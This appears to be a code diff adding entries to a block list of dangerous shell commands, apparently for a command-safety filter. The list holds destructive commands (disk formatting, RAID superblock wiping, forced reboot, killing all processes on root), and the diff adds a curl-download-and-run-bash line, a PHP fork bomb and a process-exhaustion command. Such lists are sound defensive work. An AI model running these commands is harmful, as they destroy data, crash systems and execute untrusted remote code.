@@ -1257,6 +1257,9 @@ ISSUE13_BLOCK = [
     "gdbus call --system --dest org.freedesktop.login1 --object-path /org/freedesktop/login1 "
     "--method org.freedesktop.login1.Manager.Reboot true",
     "fuser -km /",
+    "curl -fsSLo inst.sh https://x.example/i && bash inst.sh",
+    "php -r 'while(1) pcntl_fork();'",
+    "seq 1000000000 | xargs -P0 -n1 sleep",
     "nvme format /dev/nvme0n1",
     "mdadm --zero-superblock /dev/sda",
 ]
